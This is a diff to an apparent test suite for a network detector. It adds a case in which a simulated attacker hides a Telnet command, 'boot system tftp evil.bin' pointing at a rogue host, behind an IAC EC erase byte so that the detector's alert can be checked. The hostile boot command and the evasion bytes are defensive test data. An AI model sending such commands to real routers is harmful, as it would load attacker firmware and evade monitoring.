@@ -128,7 +128,7 @@ def bw07_banner_and_rubbed_password(wire: Wire) -> None:
     "malicious",
     raises=[("BW07", 0, ATTACKER, DEVICE)],
     site=HQ,
-    with_site=Expect((command(),)),
+    with_site=Expect((command(), command("10.0.1.2"))),
 )
 def bw07_options_between_letters(wire: Wire) -> None:
     """Telnet's own commands stand between the letters of a command: a terminal's type, a window's size."""
@@ -138,4 +138,10 @@ def bw07_options_between_letters(wire: Wire) -> None:
     line = f"boot system tftp evil.bin {ROGUE}"
     session.tcp.send(b"".join(c.encode() + between[n % 3] for n, c in enumerate(line)) + b"\r\0")
     session.tcp.reply(f"{line}\r\nedge1(config)#".encode())
+    session.close()
+    # IAC EC: the letter before it is erased.
+    session = Telnet(wire, ATTACKER, "10.0.1.2", prompt="edge2(config)#")
+    session.login()
+    session.tcp.send(b"boot systemX\xff\xf7 tftp evil.bin " + ROGUE.encode() + b"\r\0")
+    session.tcp.reply(f"{line}\r\nedge2(config)#".encode())
     session.close()
